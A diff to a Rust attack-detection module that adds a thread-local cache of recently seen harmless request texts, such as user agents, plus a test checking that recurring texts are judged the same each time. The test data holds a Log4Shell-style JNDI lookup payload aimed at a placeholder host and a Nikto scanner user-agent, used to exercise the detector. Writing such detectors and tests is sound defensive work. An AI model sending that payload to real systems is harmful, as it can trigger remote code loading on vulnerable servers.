@@ -4,6 +4,7 @@ use super::super::Config;
 use crate::model::Severity;
 use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
 use std::borrow::Cow;
+use std::cell::RefCell;
 use std::sync::LazyLock;
 
 /// Longest text looked at, bytes.
@@ -104,21 +105,61 @@ impl Sign {
     }
 }
 
-/// Calls `found` once for each kind of attack in the texts of a request.
-pub fn find<'t>(texts: impl Iterator<Item = &'t str>, mut found: impl FnMut(Sign)) {
+/// Calls `found` once for each kind of attack in the texts of a request; `recurring` are such as many requests
+/// have in common.
+pub fn find<'t>(
+    texts: impl Iterator<Item = &'t str>,
+    recurring: impl Iterator<Item = &'t str>,
+    mut found: impl FnMut(Sign),
+) {
     let Some(matcher) = MATCHER.as_ref() else { return };
     let mut seen = [false; ALL.len()];
-    for text in texts {
+    let mut look = |text: &str| {
         // Twice: attackers encode once more what servers decode once.
         let once = decoded(text.get(..TEXT).unwrap_or(text));
         let twice = decoded(&once);
+        let mut harmless = true;
         for hit in matcher.find_overlapping_iter(&*twice) {
+            harmless = false;
             let Some((sign, _)) = TEXTS.get(hit.pattern().as_usize()) else { continue };
             if let Some(seen) = seen.get_mut(*sign as usize)
                 && !std::mem::replace(seen, true)
             {
                 found(*sign);
             }
+        }
+        harmless
+    };
+    texts.for_each(|text| {
+        look(text);
+    });
+    recurring.for_each(|text| HARMLESS.with_borrow_mut(|harmless| harmless.unless_known(text, &mut look)));
+}
+
+/// Texts in which lately nothing was found.
+#[derive(Default)]
+struct Harmless {
+    texts: Vec<String>,
+}
+
+/// How many of them, and the longest, bytes.
+const LATELY: usize = 64;
+const SHORT: usize = 512;
+
+thread_local! {
+    static HARMLESS: RefCell<Harmless> = RefCell::default();
+}
+
+impl Harmless {
+    /// Looks at a text that is not known to be harmless.
+    fn unless_known(&mut self, text: &str, look: impl FnOnce(&str) -> bool) {
+        self.texts.resize_with(LATELY, String::new);
+        // What clients call themselves differs in length or in the last words.
+        let end = text.as_bytes().last_chunk::<8>().map_or(0, |last| u64::from_le_bytes(*last));
+        let place = (end ^ text.len() as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 58;
+        let Some(known) = self.texts.get_mut(place as usize) else { return };
+        if known != text && look(text) && text.len() <= SHORT {
+            text.clone_into(known);
         }
     }
 }
@@ -154,7 +195,7 @@ mod tests {
 
     fn names(text: &str) -> Vec<&'static str> {
         let mut names = Vec::new();
-        find(std::iter::once(text), |sign| names.push(sign.name()));
+        find(std::iter::once(text), std::iter::empty(), |sign| names.push(sign.name()));
         names
     }
 
@@ -182,6 +223,19 @@ mod tests {
             "/a?q=sleep+better;environment", "/a?x=1&env=prod&ping=1", "curl/8.5.0", "Wget/1.21", "/docs/sleep.html", "/wiki/Orion",
         ] {
             assert!(names(text).is_empty(), "{text}: {:?}", names(text));
+        }
+    }
+
+    #[test]
+    fn what_recurs_is_judged_alike_each_time() {
+        let agents = ["", "curl/8.5.0", "Mozilla/5.00 (Nikto/2.1.6)", "curl/8.5.0", "${jndi:ldap://192.0.2.1/a}"];
+        let long = format!("Nikto {}", "x".repeat(2 * SHORT));
+        for _ in 0..3 {
+            for agent in agents.into_iter().chain([long.as_str()]) {
+                let mut found = Vec::new();
+                find(std::iter::empty(), std::iter::once(agent), |sign| found.push(sign.name()));
+                assert_eq!(found, names(agent), "{agent}");
+            }
         }
     }
 }
